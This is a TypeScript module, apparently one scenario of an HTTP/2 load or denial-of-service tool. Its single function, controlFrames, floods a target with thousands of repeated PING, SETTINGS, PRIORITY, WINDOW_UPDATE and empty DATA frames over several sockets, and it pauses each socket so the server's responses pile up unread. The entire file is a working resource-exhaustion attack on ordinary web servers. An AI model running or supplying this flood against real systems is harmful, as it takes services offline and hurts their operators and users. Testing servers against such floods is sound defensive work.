import { frame, PREFACE, pour, socket } from "../raw.js";
import type { Target } from "../target.js";

/** Pings, settings, priorities and window updates without end, from peers that read none of the answers. */
export async function controlFrames(target: Target): Promise<void> {
  const floods = [
    frame(6, 0, 0, Buffer.alloc(8)),
    frame(4, 0, 0, Buffer.alloc(0)),
    frame(2, 0, 1, Buffer.alloc(5)),
    frame(8, 0, 0, Buffer.from([0, 0, 0, 1])),
    frame(4, 0, 0, Buffer.from([0, 1, 0, 0, 16, 0])),
    frame(0, 1, 0, Buffer.alloc(0)),
  ].map((one) => Buffer.concat(Array.from({ length: 1_000 }, () => one)));
  await Promise.all(
    floods.flatMap((bytes) =>
      [0, 1].map((i) => {
        const opened = socket(target, i);
        opened.pause();
        opened.write(PREFACE);
        return pour(opened, target, () => bytes);
      }),
    ),
  );
}
